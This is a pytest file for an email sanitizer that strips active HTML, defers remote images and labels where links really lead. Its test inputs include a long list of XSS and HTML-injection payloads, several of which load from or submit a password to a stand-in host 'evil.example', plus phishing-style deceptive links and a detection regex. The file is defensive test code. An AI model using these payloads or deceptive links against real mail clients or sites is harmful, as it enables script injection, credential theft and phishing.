"""Hostile letters are shown harmless."""

# ruff: noqa: E501  the lines are as long as mail programs write them

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from heard.channels.email.html import clean, from_text, is_too_much
from heard.channels.email.markdown import to_html
from heard.channels.email.plaintext import to_text
from heard.channels.tests.letters import patient

FORBIDDEN = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|video|audio)"
    r"|\son\w+=|javascript:|vbscript:|data:text|position|expression|url\(|\ssrcset=|\ssrc=\"(?!data:)"
    r"|\sid=|\saction=|\sformaction=",
    re.IGNORECASE,
)


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>steal()</script>",
        "<scr<script>ipt>steal()</script>",
        '<img src=x onerror="steal()">',
        '<a href="javascript:steal()">x</a>',
        '<a href="java\nscript:steal()">x</a>',
        '<a href="&#106;avascript:steal()">x</a>',
        '<a href="data:text/html,<script>steal()</script>">x</a>',
        '<svg onload="steal()"><a xlink:href="javascript:steal()">x</a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
        '<form action="https://evil.example"><input name="password"></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x">',
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">sign in again</div>',
        '<div style="width:expression(steal())">x</div>',
        '<div style="background:url(https://evil.example/x)">x</div>',
        '<div style="background-color:\\75rl(https://evil.example/x)">x</div>',
        "<style>@import url(https://evil.example/x)</style>",
        '<iframe src="https://evil.example"></iframe>',
        '<object data="https://evil.example"></object><embed src="https://evil.example">',
        '<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>',
        '<img srcset="https://evil.example/x 2x" src="https://evil.example/y">',
        '<img src="//evil.example/x">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<p id="composer" class="host">x</p>',
        '<body background="https://evil.example/x" onload="steal()">x</body>',
        '<img alt="&quot; src=&quot;https://evil.example/x" src="cid:a">',
        '<img title=\'" data-src="\' src="https://evil.example/x">',
        '<noscript><p title="</noscript><img src=x onerror=steal()>">',
        "<template><script>steal()</script></template>",
        "<!--<img src=--><img src=x onerror=steal()//>",
    ],
)
def test_what_could_act_is_taken_out(hostile: str) -> None:
    cleaned = clean(f"<p>before</p>{hostile}<p>after</p>")
    assert cleaned.startswith("<p>before</p>")
    assert not FORBIDDEN.search(re.sub(r'(?:alt|title)="[^"]*"', "", cleaned)), cleaned


@patient
@given(
    st.lists(
        st.sampled_from(
            re.findall(
                r"<[^>]*>|\w+|.",
                "<a href='x' onclick=y><img src=z><b>&lt;script>\"'><style></a>-->",
            )
        ),
        max_size=40,
    )
)
def test_no_heap_of_tags_gets_through(pieces: list[str]) -> None:
    cleaned = clean("".join(pieces))
    assert not re.search(r"<(?!/?(?:a|b|img|span)\b)|\son\w+=", cleaned)
    assert clean("".join(pieces)) == cleaned


def test_looks_are_kept() -> None:
    shown = (
        '<td bgcolor="#fff" style="color:red;padding:2px 4px;font-family:Arial, sans-serif">x</td>'
    )
    cleaned = clean(f"<table><tr>{shown}</tr></table>")
    assert 'style="color:red;padding:2px 4px;font-family:Arial, sans-serif"' in cleaned
    assert 'bgcolor="#fff"' in cleaned


def test_pictures_wait_until_they_are_asked_for() -> None:
    cleaned = clean(
        '<img src="https://t.example/spy.gif?a=1&amp;b=2" alt="us" width="1">'
        '<img src="//t.example/two.gif"><img src="cid:logo@d"><img src="data:image/png;base64,AAAA">'
    )
    assert '<img alt="us" width="1" data-src="https://t.example/spy.gif?a=1&amp;b=2">' in cleaned
    assert '<img data-cid="logo@d">' in cleaned
    assert '<img src="data:image/png;base64,AAAA">' in cleaned
    assert '<img data-src="https://t.example/two.gif">' in cleaned


@pytest.mark.parametrize(
    ("link", "host"),
    [
        ('<a href="https://evil.example/x">www.bank.example</a>', "evil.example"),
        ('<a href="https://evil.example/x">Sign in</a>', "evil.example"),
        ('<a href="https://bank.example@evil.example/">bank.example</a>', "evil.example"),
        ('<a href="https://evil.example\\@bank.example/">bank.example</a>', "evil.example"),
        (
            '<a href="https://bank.example.evil.example/">bank.example</a>',
            "bank.example.evil.example",
        ),
        (
            '<a href="https://evil.example/bank.example">bank.example or evil.example</a>',
            "evil.example",
        ),
        ('<a href="https://bаnk.example/">bank.example</a>', "xn--bnk-6cd.example"),
        (
            '<a href="https://evil.example/"><img src="cid:a" alt="bank.example"></a>',
            "evil.example",
        ),
        ('<a href="//evil.example/">here</a>', "evil.example"),
        ('<a href="mailto:thief@evil.example?subject=x">ines@d.example</a>', "thief@evil.example"),
        ('<a href="https://shop.example/x">https://shop.example/x</a>', ""),
        ('<a href="https://www.shop.example/x">shop.example</a>', ""),
        ('<a href="mailto:ines@d.example">ines@d.example</a>', ""),
        ('<a href="tel:+351220">+351 220</a>', ""),
    ],
)
def test_a_link_shows_where_it_leads(link: str, host: str) -> None:
    cleaned = clean(f"<p>{link}</p>")
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in cleaned
    shown = re.findall(r'<span class="host">([^<]*)</span>', cleaned)
    assert shown == ([host] if host else [])


@pytest.mark.parametrize(
    "href", ["/settings", "http://", "http://[bad", "cid:x", "ftp://a.example"]
)
def test_a_link_to_nowhere_of_the_outside_is_no_link(href: str) -> None:
    assert "href" not in clean(f'<a href="{href}">x</a>')


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two<br>Three</p>", "One\n\nTwo\nThree"),
        ("<ul><li>blade</li><li>belt</li></ul>", "  * blade\n  * belt"),
        ('<div style="display:none">preheader</div><p>Words</p>', "Words"),
        ('<p style="margin-left:99999999em">Words</p>', "Words"),
        ("<style>p{color:red}</style><title>t</title>Words<script>x</script>", "Words"),
        ("a&nbsp;&amp;&nbsp;b", "a & b"),
        (
            '<blockquote type="cite">old<blockquote type="cite">older</blockquote></blockquote>new',
            "> old\n\n>> older\n\nnew",
        ),
        ("\ue0a1words\ue0a2", "words"),
        ("", ""),
        ("<div>" * 3000 + "deep", "deep"),
    ],
)
def test_html_is_read_as_words(html: str, text: str) -> None:
    assert to_text(html) == text


def test_html_that_no_reader_can_lay_out_is_shown_in_words() -> None:
    heap = "<div>" * 100_000 + "deep &amp; <script>" + "<p>unclosed" * 3
    assert clean(heap) == "<div>deep &amp; unclosed unclosed unclosed</div>"
    assert to_text(heap).startswith("deep & ")
    assert not is_too_much("<p>one<p>two<br><table><tr><td>" * 400 + "</table>" * 400)


def test_a_plain_text_is_shown_as_it_is() -> None:
    assert from_text("a < b\nc") == "<div>a &lt; b<br>c</div>"


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        (
            "Hello **Ines**,\nit is *sent*.",
            "<p>Hello <strong>Ines</strong>,<br>\nit is <em>sent</em>.</p>",
        ),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>"),
        ("[x](javascript:steal())", "<p>[x](javascript:steal())</p>"),
        (
            "[x](https://l.example)",
            '<p><a href="https://l.example" rel="noopener noreferrer">x</a></p>',
        ),
        ("![x](https://l.example/spy.gif)", "<p></p>"),
        ("", ""),
    ],
)
def test_what_an_agent_writes_becomes_small_html(markdown: str, html: str) -> None:
    assert to_html(markdown) == html
